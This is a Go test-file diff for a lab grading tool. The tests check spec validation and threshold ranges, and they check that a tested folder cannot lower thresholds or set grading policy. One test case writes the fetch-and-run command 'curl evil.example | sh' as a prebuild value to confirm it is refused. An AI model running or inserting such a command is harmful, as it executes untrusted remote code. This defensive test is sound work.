@@ -1,6 +1,7 @@
 package labtest
 
 import (
+	"errors"
 	"os"
 	"path/filepath"
 	"testing"
@@ -23,14 +24,15 @@ func writeFile(t *testing.T, dir, name, content string) string {
 
 func TestDefaultSpec(t *testing.T) {
 	s := DefaultSpec()
-	require.Len(t, s.Checks, 5)
+	require.Len(t, s.Checks, 6)
 	total := 0
 	for i, c := range check.Lab() {
-		assert.Equal(t, c.ID(), s.Checks[i].ID, "checks run in check.Lab's order")
-		assert.Equal(t, 20, s.Checks[i].Points, c.ID())
-		assert.Nil(t, s.Checks[i].Threshold, "%s keeps the check's own threshold", c.ID())
+		id := c.Info().ID
+		assert.Equal(t, id, s.Checks[i].ID, "checks run in check.Lab's order")
+		assert.Nil(t, s.Checks[i].Threshold, "%s keeps the check's own threshold", id)
 		total += s.Checks[i].Points
 	}
+	assert.Equal(t, 20, s.Checks[5].Points, "real-model")
 	assert.Equal(t, 100, total)
 	assert.Equal(t, "docker-compose.yml", s.Compose)
 	assert.Equal(t, Roles{Traditional: "traditional-api", ML: "ml-api"}, s.Services)
@@ -40,13 +42,14 @@ func TestDefaultSpec(t *testing.T) {
 	} {
 		assert.Positive(t, time.Duration(d), name)
 	}
-	assert.NoError(t, s.validate(check.All()))
+	_, err := s.resolve(check.All())
+	assert.NoError(t, err)
 
 	// Each call is a fresh spec: changing one must not change the next.
 	s.Env["hub"]["HUB_BANDWIDTH"] = "0"
 	s.Checks[0].Points = 0
 	assert.Equal(t, "4MB", DefaultSpec().Env["hub"]["HUB_BANDWIDTH"])
-	assert.Equal(t, 20, DefaultSpec().Checks[0].Points)
+	assert.Equal(t, 16, DefaultSpec().Checks[0].Points)
 }
 
 func TestLoadSpec(t *testing.T) {
@@ -80,7 +83,7 @@ func TestLoadSpec(t *testing.T) {
 			},
 		},
 		{
-			name: "no checks: all five at 20 points",
+			name: "no checks: the default lab's six",
 			yaml: "lab: my-lab\n",
 			check: func(t *testing.T, s Spec) {
 				assert.Equal(t, "my-lab", s.Lab)
@@ -235,6 +238,35 @@ func TestSpecValidate(t *testing.T) {
 			change: func(s *Spec) { s.Checks = []CheckSpec{{ID: "soak", Points: 100}} },
 		},
 		{
+			name:    "no checks at all",
+			change:  func(s *Spec) { s.Checks = []CheckSpec{} },
+			wantErr: "lab spec: no checks",
+		},
+		{
+			name:    "checks worth nothing",
+			change:  func(s *Spec) { s.Checks = []CheckSpec{{ID: "cold-start", Points: 0}} },
+			wantErr: "0 points in all",
+		},
+		{
+			name:    "a threshold below its sane range",
+			change:  func(s *Spec) { th := 0.5; s.Checks[2].Threshold = &th },
+			wantErr: `check "latency-ratio": threshold min_median_ratio 0.5 is outside its sane range 1..1000 x`,
+		},
+		{
+			name:    "a threshold above its sane range",
+			change:  func(s *Spec) { th := 1.5; s.Checks[5].Threshold = &th },
+			wantErr: `check "real-model": threshold min_accuracy 1.5 is outside`,
+		},
+		{
+			name:   "a threshold within its range",
+			change: func(s *Spec) { th := 20.0; s.Checks[2].Threshold = &th },
+		},
+		{
+			name:    "a timeout of zero",
+			change:  func(s *Spec) { s.CheckTimeout = 0 },
+			wantErr: "check_timeout must be positive",
+		},
+		{
 			name:    "no ML service",
 			change:  func(s *Spec) { s.Services.ML = "" },
 			wantErr: "services.traditional and services.ml must name compose services",
@@ -249,7 +281,7 @@ func TestSpecValidate(t *testing.T) {
 		t.Run(tt.name, func(t *testing.T) {
 			s := DefaultSpec()
 			tt.change(&s)
-			err := s.validate(check.All())
+			_, err := s.resolve(check.All())
 			if tt.wantErr == "" {
 				assert.NoError(t, err)
 				return
@@ -270,36 +302,108 @@ func TestShippedSpecs(t *testing.T) {
 		t.Run(filepath.Base(p), func(t *testing.T) {
 			s, err := LoadSpec(p)
 			require.NoError(t, err)
-			assert.NoError(t, s.validate(check.All()))
+			_, err = s.resolve(check.All())
+			assert.NoError(t, err)
 			assert.NotEmpty(t, s.Checks)
 		})
 	}
 }
 
-func TestSpecFor(t *testing.T) {
-	t.Run("the folder's own spec", func(t *testing.T) {
-		dir := t.TempDir()
-		writeFile(t, dir, SpecFile, "lab: from-folder\n")
-		s, err := specFor(dir, "")
-		require.NoError(t, err)
-		assert.Equal(t, "from-folder", s.Lab)
-	})
-	t.Run("an explicit spec wins over the folder's", func(t *testing.T) {
-		dir := t.TempDir()
-		writeFile(t, dir, SpecFile, "lab: from-folder\n")
-		s, err := specFor(dir, writeFile(t, t.TempDir(), "other.yaml", "lab: explicit\n"))
-		require.NoError(t, err)
-		assert.Equal(t, "explicit", s.Lab)
-	})
-	t.Run("no spec: the defaults", func(t *testing.T) {
-		s, err := specFor(t.TempDir(), "")
-		require.NoError(t, err)
-		assert.Equal(t, DefaultSpec(), s)
-	})
-	t.Run("an explicit spec that is missing is an error", func(t *testing.T) {
-		_, err := specFor(t.TempDir(), filepath.Join(t.TempDir(), "missing.yaml"))
-		assert.Error(t, err)
-	})
+func TestPlanLayout(t *testing.T) {
+	tests := []struct {
+		name string
+		// own is the tested folder's SpecFile; empty: none.
+		own string
+		// lab is the grader's lab file; empty: the defaults.
+		lab       string
+		check     func(t *testing.T, p Plan)
+		wantErr   []string
+		layoutErr bool
+	}{
+		{
+			name:  "no files: the defaults",
+			check: func(t *testing.T, p Plan) { assert.Equal(t, DefaultSpec().Layout, p.Layout) },
+		},
+		{
+			name: "the folder renames its services and compose file",
+			own:  "compose: deploy/compose.yaml\nservices:\n  ml: inference\n  ml_port: 9000\n",
+			check: func(t *testing.T, p Plan) {
+				assert.Equal(t, "deploy/compose.yaml", p.Compose)
+				assert.Equal(t, Roles{Traditional: "traditional-api", ML: "inference", MLPort: 9000}, p.Services)
+				assert.Len(t, p.Checks, 6, "the policy is the default one")
+			},
+		},
+		{
+			name: "the folder's layout wins over the grader's default layout; the grader's policy stays",
+			own:  "services: {ml: inference}\n",
+			lab:  "lab: course\ncompose: compose.yml\nchecks: [{id: cold-start, points: 10}]\n",
+			check: func(t *testing.T, p Plan) {
+				assert.Equal(t, "course", p.Lab)
+				assert.Equal(t, "compose.yml", p.Compose)
+				assert.Equal(t, "inference", p.Services.ML)
+				require.Len(t, p.Checks, 1)
+			},
+		},
+		{
+			name:      "a folder that lowers a threshold is refused, naming the key and the file",
+			own:       "compose: docker-compose.yml\nchecks:\n  - {id: latency-ratio, points: 20, threshold: 0.5}\n",
+			wantErr:   []string{SpecFile, `line 2 sets "checks"`, "grading policy", "compose, services"},
+			layoutErr: true,
+		},
+		{
+			name:      "a folder that sets its own pre-build is refused",
+			own:       "prebuild: curl evil.example | sh\n",
+			wantErr:   []string{`sets "prebuild"`},
+			layoutErr: true,
+		},
+		{
+			name:      "a folder that sets env is refused",
+			own:       "env:\n  ml-api: {BATCH_MAX: '1'}\n",
+			wantErr:   []string{`sets "env"`},
+			layoutErr: true,
+		},
+		{
+			name:      "an unknown key in the folder's file",
+			own:       "servcies: {ml: x}\n",
+			wantErr:   []string{"field servcies not found", "may declare only compose, services"},
+			layoutErr: true,
+		},
+		{
+			name:      "the folder empties a role",
+			own:       "services: {ml: ''}\n",
+			wantErr:   []string{"services.ml must name"},
+			layoutErr: true,
+		},
+		{
+			name:    "a bad grader's file is the grader's error",
+			lab:     "checks: []\n",
+			wantErr: []string{"no checks"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			if tt.own != "" {
+				writeFile(t, dir, SpecFile, tt.own)
+			}
+			lab := ""
+			if tt.lab != "" {
+				lab = writeFile(t, t.TempDir(), "lab.yaml", tt.lab)
+			}
+			p, err := plan(dir, lab, check.All())
+			if tt.wantErr != nil {
+				require.Error(t, err)
+				for _, w := range tt.wantErr {
+					assert.Contains(t, err.Error(), w)
+				}
+				var le *LayoutError
+				assert.Equal(t, tt.layoutErr, errors.As(err, &le), "whose fault: the folder's (LayoutError) or the grader's")
+				return
+			}
+			require.NoError(t, err)
+			tt.check(t, p)
+		})
+	}
 }
 
 // TestOpenWithoutDocker covers what Open decides before it needs a Docker
@@ -313,15 +417,15 @@ func TestOpenWithoutDocker(t *testing.T) {
 	})
 	t.Run("spec with an unknown check", func(t *testing.T) {
 		dir := t.TempDir()
-		writeFile(t, dir, SpecFile, "checks: [{id: speed, points: 10}]\n")
-		_, err := Open(t.Context(), Options{Dir: dir})
+		lab := writeFile(t, t.TempDir(), "lab.yaml", "checks: [{id: speed, points: 10}]\n")
+		_, err := Open(t.Context(), Options{Dir: dir, SpecPath: lab})
 		require.Error(t, err)
 		assert.Contains(t, err.Error(), `no check "speed"`)
 	})
 	t.Run("no compose file", func(t *testing.T) {
 		dir := t.TempDir()
-		writeFile(t, dir, SpecFile, "checks:\n  - {id: readiness-delay, points: 50}\n  - {id: latency-ratio, points: 50, threshold: 20}\n")
-		s, err := Open(t.Context(), Options{Dir: dir})
+		lab := writeFile(t, t.TempDir(), "lab.yaml", "checks:\n  - {id: readiness-delay, points: 50}\n  - {id: latency-ratio, points: 50, threshold: 20}\n")
+		s, err := Open(t.Context(), Options{Dir: dir, SpecPath: lab})
 		require.NoError(t, err)
 		t.Cleanup(func() { assert.NoError(t, s.Close()) })
 
@@ -345,4 +449,26 @@ func TestOpenWithoutDocker(t *testing.T) {
 		assert.Equal(t, 100, rep.MaxScore)
 		assert.False(t, rep.Passed)
 	})
+}
+
+// TestOpenRefusesAFolderPolicy: a fork's own file that sets policy is
+// graded 0 with the cause, before anything is built or any Docker engine is
+// needed.
+func TestOpenRefusesAFolderPolicy(t *testing.T) {
+	dir := t.TempDir()
+	writeFile(t, dir, SpecFile, "checks:\n  - {id: latency-ratio, points: 100, threshold: 1}\n")
+	s, err := Open(t.Context(), Options{Dir: dir})
+	require.NoError(t, err)
+	t.Cleanup(func() { assert.NoError(t, s.Close()) })
+	assert.Nil(t, s.stack, "nothing was started")
+	rep := s.Report()
+	for _, id := range s.Checks() {
+		r := s.Run(t.Context(), id)
+		assert.False(t, r.Passed)
+		assert.Contains(t, r.Message, `mlready-lab.yaml: line 1 sets "checks"`)
+	}
+	rep = s.Report()
+	assert.Equal(t, 0, rep.Score)
+	assert.Equal(t, 100, rep.MaxScore, "graded on the default policy, not the folder's")
+	assert.Contains(t, rep.Error, "grading policy")
 }
